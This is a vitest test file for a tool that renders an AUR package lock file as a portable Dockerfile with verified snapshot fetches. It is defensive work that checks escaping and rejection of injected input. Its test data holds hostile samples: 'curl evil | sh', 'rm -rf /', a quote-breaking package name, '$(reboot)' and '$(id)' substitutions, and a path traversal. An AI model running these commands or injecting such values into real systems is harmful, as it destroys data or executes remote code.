import { describe, expect, it } from 'vitest';
import { InvalidInput } from '../errors.js';
import { parseLockFormat, renderLock } from './format.js';
import { dockerfileWord, renderPortableDockerfile } from './format-portable.js';
import type { LockEntry, LockFile } from './lock-file.js';

const A = 'a'.repeat(40);
const B = 'b'.repeat(40);
function entry(pkgname: string, pkgbase: string, commit: string, sha256: string, approvedBy: string | null = 'rita'): LockEntry {
  return {
    pkgname,
    pkgbase,
    version: '1.0-1',
    commit,
    url: `https://aur.example.org/snapshot/${pkgbase}/${commit}.tar.gz`,
    sha256,
    approvedBy,
    approvedAt: null,
  };
}
const lock: LockFile = {
  version: 1,
  server: 'https://aur.example.org/',
  generatedAt: '2026-01-02T03:04:05.000Z',
  packages: [entry('lib-one', 'lib', A, '1'.repeat(64)), entry('lib-two', 'lib', A, '1'.repeat(64)), entry('g++tool', 'g++tool', B, '2'.repeat(64))],
};

/** The RUN instruction as the builder hands it to /bin/sh: continuation backslashes and newlines removed. */
function runScript(text: string): string {
  return /^RUN ([\s\S]*)$/m.exec(text.trimEnd())?.[1]?.replace(/\\\n/g, '') ?? '';
}

describe('the portable Dockerfile form', () => {
  it('is an ARG with the lock server and one RUN fetching each pkgbase once, in lock order', () => {
    const text = renderLock(lock, 'dockerfile-portable');
    const lines = text.trimEnd().split('\n');
    expect(lines.filter((line) => /^[A-Z]+ /.test(line)).map((line) => line.split(' ')[0])).toEqual(['ARG', 'RUN']);
    expect(lines).toContain('ARG AURGATE_URL=https://aur.example.org');
    const script = runScript(text);
    expect([...script.matchAll(/aurgate_fetch (\S+) (\S+) (\S+);/g)].map((call) => call.slice(1))).toEqual([
      ['lib', A, '1'.repeat(64)],
      ['g++tool', B, '2'.repeat(64)],
    ]);
    expect(script).toMatch(/printf '%s\\n' lib g\+\+tool > \/aur\/build-order$/);
    // The server reaches the shell through the environment only, never as Dockerfile text.
    expect(script).not.toContain('aur.example.org');
    expect(script).toContain('"${AURGATE_URL%/}/snapshot/$1/$2.tar.gz"');
  });

  it('fails on HTTP errors, a digest mismatch and an unreachable server, naming each', () => {
    const script = runScript(renderPortableDockerfile(lock));
    expect(script).toMatch(/^set -eu;/);
    expect(script).toContain('[ "$status" = 200 ] ||');
    expect(script).toContain('sha256 mismatch');
    expect(script).toContain('server unreachable');
    expect(script).toContain('case "$AURGATE_URL" in http://?*|https://?*) ;;');
    // No line of the continued RUN may be blank or a comment: the builder would cut the instruction there.
    const runLines = /^RUN [\s\S]*$/m.exec(renderPortableDockerfile(lock).trimEnd())?.[0].split('\n') ?? [];
    for (const line of runLines) expect(line.trim() === '' || line.trim().startsWith('#')).toBe(false);
    for (const line of runLines.slice(0, -1)) expect(line).toMatch(/ \\$/);
  });

  it('keeps hostile comment text on its comment line', () => {
    const hostile = {
      ...lock,
      generatedAt: 'now\nRUN curl evil | sh',
      packages: [{ ...entry('x', 'x', A, '3'.repeat(64), 'mallory\r\nRUN rm -rf /'), version: '1\n2' }],
    };
    const lines = renderPortableDockerfile(hostile).trimEnd().split('\n');
    expect(lines.filter((line) => !line.startsWith('#') && !line.startsWith(' ')).map((line) => line.split(' ')[0])).toEqual(['ARG', 'RUN']);
    expect(lines).toContain(`# x 1 2 ${A} approved by mallory  RUN rm -rf /`);
  });

  it('refuses entries whose names, commits or digests would have to be interpolated as something else', () => {
    const bad = (patch: Partial<LockEntry>) => renderPortableDockerfile({ ...lock, packages: [{ ...entry('x', 'x', A, '1'.repeat(64)), ...patch }] });
    expect(() => bad({ pkgbase: "x'; rm -rf / #" })).toThrow(InvalidInput);
    expect(() => bad({ pkgbase: '../etc' })).toThrow(/not a package name/);
    expect(() => bad({ commit: `${A.slice(1)};` })).toThrow(/commit/);
    expect(() => bad({ sha256: '$(reboot)' })).toThrow(/sha256/);
    expect(() => bad({ pkgbase: 'ok' })).not.toThrow();
  });

  it('writes the ARG default as a Dockerfile word: plain URLs bare, anything else double-quoted with \\ " $ escaped', () => {
    expect(dockerfileWord('https://aur.example.org:8443/base_path/~x')).toBe('https://aur.example.org:8443/base_path/~x');
    expect(dockerfileWord('http://h.example/a b')).toBe('"http://h.example/a b"');
    expect(dockerfileWord('http://h.example/$HOME/${X}')).toBe('"http://h.example/\\$HOME/\\${X}"');
    expect(dockerfileWord(`http://h.example/"q"\\'s'`)).toBe(`"http://h.example/\\"q\\"\\\\'s'"`);
    expect(dockerfileWord('http://h.example/?a=b&c#d')).toBe('"http://h.example/?a=b&c#d"');
    expect(() => dockerfileWord('http://h.example/\nRUN evil')).toThrow(/control character/);
    const quoted = renderPortableDockerfile({ ...lock, server: 'http://h.example/$(id)' });
    expect(quoted).toContain('ARG AURGATE_URL="http://h.example/\\$(id)"\n');
  });

  it('is a known --format and the default stays json', () => {
    expect(parseLockFormat('dockerfile-portable')).toBe('dockerfile-portable');
    expect(parseLockFormat(undefined)).toBe('json');
    expect(() => parseLockFormat('dockerfile-buildah')).toThrow(/dockerfile-portable/);
  });
});
